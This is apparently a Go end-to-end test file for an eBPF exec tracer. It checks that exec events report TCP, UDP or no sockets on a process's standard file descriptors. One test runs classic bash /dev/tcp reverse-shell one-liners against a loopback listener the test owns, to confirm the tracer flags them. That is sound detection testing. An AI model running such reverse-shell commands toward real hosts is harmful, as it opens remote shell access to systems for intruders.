package execsnoop

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/owlbpf/owl/internal/e2e"
	"github.com/owlbpf/owl/internal/output"
	"github.com/owlbpf/owl/internal/tool"
)

// addrPort is the address and port of a net.Addr of a TCP or UDP socket.
func addrPort(t *testing.T, a net.Addr) netip.AddrPort {
	t.Helper()
	ap, err := netip.ParseAddrPort(a.String())
	if err != nil {
		t.Fatalf("%v: %v", a, err)
	}
	return ap
}

// fileOf is a dup of conn's socket, as the child's fd gets it.
func fileOf(t *testing.T, conn interface{ File() (*os.File, error) }) *os.File {
	t.Helper()
	f, err := conn.File()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

// sock is the StdioSocket of fd for a socket with local address l and
// remote address r.
func sock(fd uint8, proto string, l, r netip.AddrPort) StdioSocket {
	family := uint8(6)
	if l.Addr().Is4() {
		family = 4
	}
	return StdioSocket{FD: fd, Family: family, Protocol: proto,
		Laddr: l.Addr(), Lport: l.Port(), Raddr: r.Addr(), Rport: r.Port()}
}

// execWith runs the noop child with stdin, stdout and stderr (nil:
// /dev/null) and returns its exec event.
func execWith(t *testing.T, events <-chan Event, stdin, stdout, stderr *os.File) Event {
	t.Helper()
	cmd := child("noop", []string{"/proc/self/exe", "stdio"})
	cmd.Stdin, cmd.Stdout, cmd.Stderr = stdin, stdout, stderr
	pid := runChild(t, cmd)
	return e2e.Wait(t, events, 10*time.Second, "the child's exec", func(e Event) bool { return int(e.PID) == pid })
}

func checkStdio(t *testing.T, what string, got, want []StdioSocket) {
	t.Helper()
	if !slices.Equal(got, want) {
		t.Errorf("%s: stdio sockets\n%+v\nwant\n%+v", what, got, want)
	}
}

// A child whose stdin and stdout are one TCP connection to a listener of
// the test, over IPv4 and IPv6 loopback: fds 0 and 1 with the connection's
// endpoints, seen from the child's side (the remote end is the listener).
func TestStdioTCP(t *testing.T) {
	src := open(t, Config{}, e2e.Options())
	events := e2e.Collect(t, src)
	for _, host := range []string{"127.0.0.1", "[::1]"} {
		ln, err := net.Listen("tcp", host+":0")
		if err != nil {
			t.Fatal(err)
		}
		defer ln.Close()
		conn, err := net.Dial("tcp", ln.Addr().String())
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		f := fileOf(t, conn.(*net.TCPConn))
		e := execWith(t, events, f, f, nil)
		l, r := addrPort(t, conn.LocalAddr()), addrPort(t, ln.Addr())
		checkStdio(t, "tcp "+host, e.Stdio, []StdioSocket{sock(0, "tcp", l, r), sock(1, "tcp", l, r)})
		row := string((&flags{sockets: true}).table().AppendRow(nil, &e))
		if want := fmt.Sprintf(" stdio[0,1]=tcp:%s\n", r); !strings.HasSuffix(row, want) {
			t.Errorf("--sockets row %q: want it to end with %q", row, want)
		}
		if row := string((&flags{}).table().AppendRow(nil, &e)); strings.Contains(row, "stdio[") {
			t.Errorf("row without --sockets %q names the sockets", row)
		}
	}
}

// UDP: a connected socket on stdin, an unconnected one on stderr (its
// remote end is zero); stdout is /dev/null, not reported.
func TestStdioUDP(t *testing.T) {
	src := open(t, Config{}, e2e.Options())
	events := e2e.Collect(t, src)
	server, err := net.ListenUDP("udp", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
	if err != nil {
		t.Fatal(err)
	}
	defer server.Close()
	client, err := net.DialUDP("udp", nil, server.LocalAddr().(*net.UDPAddr))
	if err != nil {
		t.Fatal(err)
	}
	defer client.Close()
	e := execWith(t, events, fileOf(t, client), nil, fileOf(t, server))
	l, r := addrPort(t, client.LocalAddr()), addrPort(t, server.LocalAddr())
	unconnected := netip.AddrPortFrom(netip.IPv4Unspecified(), 0)
	checkStdio(t, "udp", e.Stdio, []StdioSocket{sock(0, "udp", l, r), sock(2, "udp", r, unconnected)})
}

// Not TCP or UDP over IP: a unix socket pair on all three fds, and a plain
// exec (stdin /dev/null, output to the test's pipes or files) have none.
func TestStdioNone(t *testing.T) {
	src := open(t, Config{}, e2e.Options())
	events := e2e.Collect(t, src)
	fds, err := syscall.Socketpair(syscall.AF_UNIX, syscall.SOCK_STREAM|syscall.SOCK_CLOEXEC, 0)
	if err != nil {
		t.Fatal(err)
	}
	a, b := os.NewFile(uintptr(fds[0]), "unix-a"), os.NewFile(uintptr(fds[1]), "unix-b")
	defer a.Close()
	defer b.Close()
	e := execWith(t, events, a, a, b)
	checkStdio(t, "unix socket pair", e.Stdio, nil)
	e = execWith(t, events, nil, nil, os.Stderr)
	checkStdio(t, "plain exec", e.Stdio, nil)
}

// A reverse shell as attackers start one, against a listener of the test:
// bash opens /dev/tcp/127.0.0.1/PORT, puts it on fds 0, 1 and 2, then the
// shell runs with it. Which exec carries the socket: with `exec CMD
// >& /dev/tcp/... 0>&1` bash redirects its own fds and execs CMD in its
// own process; with `CMD >& /dev/tcp/... 0>&1` it redirects in the child
// it forks (or in itself, when it execs a last command directly) before
// the exec. Either way the interactive shell's exec has the socket on
// fds 0, 1 and 2, and bash's own exec (the redirection not yet done) has
// none.
func TestStdioReverseShell(t *testing.T) {
	e2e.Require(t)
	bash := e2e.Need(t, "bash")
	for _, c := range []struct{ shell, script string }{
		{"sh", "sh -i >& /dev/tcp/127.0.0.1/%d 0>&1"},
		{"bash", "exec bash -i >& /dev/tcp/127.0.0.1/%d 0>&1"},
	} {
		t.Run(c.shell, func(t *testing.T) {
			e2e.Need(t, c.shell)
			ln, err := net.Listen("tcp", "127.0.0.1:0")
			if err != nil {
				t.Fatal(err)
			}
			defer ln.Close()
			lnAddr := addrPort(t, ln.Addr())
			script := fmt.Sprintf(c.script, lnAddr.Port())
			// Every task is traced (the shell's parent is bash, not the
			// test): keep bash's exec and the shell's, by their arguments.
			// (What the shell runs inherits the socket too.)
			src, err := Open(Config{}, e2e.Options())
			if err != nil {
				t.Fatal(err)
			}
			events := collectWhere(t, src, func(e *Event) bool {
				return e.Line() == "bash -c "+script || e.Line() == c.shell+" -i"
			})
			cmd := exec.Command(bash, "-c", script)
			cmd.Args[0] = "bash"
			// No history file written, no startup file of the host's run.
			cmd.Env = append(os.Environ(), "HOME="+t.TempDir(), "HISTFILE=", "ENV=")
			if err := cmd.Start(); err != nil {
				t.Fatal(err)
			}
			ln.(*net.TCPListener).SetDeadline(time.Now().Add(10 * time.Second))
			conn, err := ln.Accept()
			if err != nil {
				t.Fatal(err)
			}
			defer conn.Close()
			// The shell reads commands from the connection: ask it for its
			// pid, then end it.
			fmt.Fprintf(conn, "echo pid=$$\nexit\n")
			conn.SetReadDeadline(time.Now().Add(10 * time.Second))
			var pid int
			sc := bufio.NewScanner(conn)
			for sc.Scan() {
				// The prompt may precede the line.
				if _, l, ok := strings.Cut(sc.Text(), "pid="); ok {
					fmt.Sscan(l, &pid)
				}
			}
			if err := cmd.Wait(); err != nil {
				t.Fatalf("%s: %v", script, err)
			}
			if pid == 0 {
				t.Fatalf("the shell did not say its pid (%v)", sc.Err())
			}
			bashExec := e2e.Wait(t, events, 10*time.Second, "bash's exec", func(e Event) bool { return e.Comm.String() == "bash" && len(e.Stdio) == 0 })
			if int(bashExec.PID) != cmd.Process.Pid {
				t.Errorf("bash's exec: pid %d, want %d", bashExec.PID, cmd.Process.Pid)
			}
			e := e2e.Wait(t, events, 10*time.Second, "the shell's exec", func(e Event) bool {
				return e.Line() == c.shell+" -i" && int(e.PID) == pid
			})
			if e.Comm.String() != c.shell {
				t.Errorf("shell exec: comm %q, want %s", e.Comm.String(), c.shell)
			}
			l := addrPort(t, conn.RemoteAddr()) // the shell's end
			want := []StdioSocket{sock(0, "tcp", l, lnAddr), sock(1, "tcp", l, lnAddr), sock(2, "tcp", l, lnAddr)}
			checkStdio(t, script, e.Stdio, want)
			t.Logf("%s: pid %d (bash %d): %s", script, pid, cmd.Process.Pid, e.AppendStdio(nil))
		})
	}
}

// collectWhere is e2e.Collect for a source tracing every task: only the
// events keep accepts reach the channel.
func collectWhere(t *testing.T, src *tool.Source[Event], keep func(*Event) bool) <-chan Event {
	t.Helper()
	ch := make(chan Event, 64)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() {
		done <- src.Run(ctx, func(e *Event) {
			if !keep(e) {
				return
			}
			select {
			case ch <- *e:
			default:
				t.Errorf("test channel full: event dropped")
			}
		})
	}()
	t.Cleanup(func() {
		cancel()
		if err := <-done; err != nil {
			t.Errorf("run: %v", err)
		}
		if st, err := src.Stats(); err != nil || st.Lost() != 0 {
			t.Errorf("lost events: %+v (%v)", st, err)
		}
		src.Close()
	})
	return ch
}

func TestAppendStdio(t *testing.T) {
	tcp := StdioSocket{Family: 4, Protocol: "tcp", Laddr: netip.MustParseAddr("127.0.0.1"), Lport: 40000,
		Raddr: netip.MustParseAddr("127.0.0.1"), Rport: 4444}
	udp := StdioSocket{FD: 1, Family: 6, Protocol: "udp", Laddr: netip.MustParseAddr("::1"), Lport: 5000,
		Raddr: netip.MustParseAddr("::ffff:10.0.0.5"), Rport: 53}
	tcp2 := tcp
	tcp2.FD = 2
	for _, c := range []struct {
		stdio []StdioSocket
		want  string
	}{
		{nil, ""},
		{[]StdioSocket{tcp}, " stdio[0]=tcp:127.0.0.1:4444"},
		{[]StdioSocket{tcp, udp, tcp2}, " stdio[0,2]=tcp:127.0.0.1:4444 stdio[1]=udp:[::ffff:10.0.0.5]:53"},
	} {
		e := Event{Stdio: c.stdio}
		if got := string(e.AppendStdio(nil)); got != c.want {
			t.Errorf("%+v: got %q, want %q", c.stdio, got, c.want)
		}
	}
	// JSON: always there when present, in the contract's field names.
	var buf bytes.Buffer
	w := output.NewWriter(&buf, output.JSON, (&flags{}).table())
	w.Event(&Event{Stdio: []StdioSocket{tcp, udp}})
	w.Event(&Event{})
	w.Close()
	lines := strings.Split(buf.String(), "\n")
	want := `"stdio_sockets":[{"fd":0,"family":4,"protocol":"tcp","laddr":"127.0.0.1","lport":40000,"raddr":"127.0.0.1","rport":4444},` +
		`{"fd":1,"family":6,"protocol":"udp","laddr":"::1","lport":5000,"raddr":"::ffff:10.0.0.5","rport":53}]}`
	if len(lines) < 2 || !strings.HasSuffix(lines[0], want) || strings.Contains(lines[1], "stdio") {
		t.Errorf("JSON:\n%s\nwant the first line to end with %s and the second to have none", buf.String(), want)
	}
}
